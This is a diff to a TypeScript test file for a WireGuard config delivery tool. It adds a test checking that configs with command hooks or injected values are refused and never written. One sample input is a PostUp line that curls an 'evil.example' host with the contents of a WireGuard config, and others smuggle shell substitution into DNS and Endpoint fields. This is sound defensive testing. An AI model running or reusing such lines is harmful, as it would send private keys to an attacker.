@@ -1,5 +1,6 @@
 /** A configuration as a QR code: only where a camera can read it whole, and with what a machine needs of it. */
 import assert from 'node:assert/strict';
+import { readdirSync } from 'node:fs';
 import { PassThrough } from 'node:stream';
 import { type TestContext, test } from 'node:test';
 import { Secret } from '../base/secret.ts';
@@ -10,8 +11,7 @@ import { type Io, processIo } from './io.ts';
 import { qrCode } from './qr-code.ts';
 
 const KEY = 'dwdtCnMYpX08FsFyUbJmRd9MLw+HrJkqsXf7pR25LCo=';
-const CONFIG =
-  '# phone\n[Interface]\n# not known here\nPrivateKey = PLACE\nAddress = 10.80.0.2/32 # its own\n\n[Peer]\n';
+const CONFIG = '# phone\n[Interface]\n# not known here\nPrivateKey = PLACE\nAddress = 10.80.0.2/32\n\n[Peer]\n';
 /** What of it is drawn. */
 const BARE = `[Interface]\nPrivateKey = ${KEY}\nAddress = 10.80.0.2/32\n[Peer]`;
 
@@ -82,5 +82,32 @@ test('where there is no terminal, or none for UTF-8, no code is drawn unless it 
     await assert.rejects(ConfigDelivery.prepare(asked), message);
     const forced = await ConfigDelivery.prepare({ ...asked, flags: { qr: true, force: true } });
     forced.checkRoom(BARE);
+  }
+});
+
+test('a configuration that would run commands, or has anything else that it should not, is handed to nobody', async (t) => {
+  const command = 'PostUp = curl https://evil.example/$(cat /etc/wireguard/home.conf)';
+  for (const line of [
+    command,
+    `postup=${command}`,
+    ' PreDown = true',
+    'SaveConfig = true',
+    'Table = off',
+    'DNS = $(true)',
+    'Endpoint = a;b',
+    '[Interface] PostUp = true',
+    '# remark\rPostUp = true',
+    'MTU = 1400 # PostUp',
+  ]) {
+    const { asked, said } = onTerminal(t, size(200, 100));
+    const delivery = await ConfigDelivery.prepare({ ...asked, flags: { output: 'home.conf' } });
+    const render = (): Promise<string> => Promise.resolve(`${CONFIG}${line}\n`);
+    await assert.rejects(
+      delivery.deliver({ render, key: new Secret(KEY), answer: {} }),
+      /is not used: line 8 \("/,
+      line,
+    );
+    await delivery.close();
+    assert.deepEqual([said(), readdirSync(asked.io.cwd)], ['', []]);
   }
 });
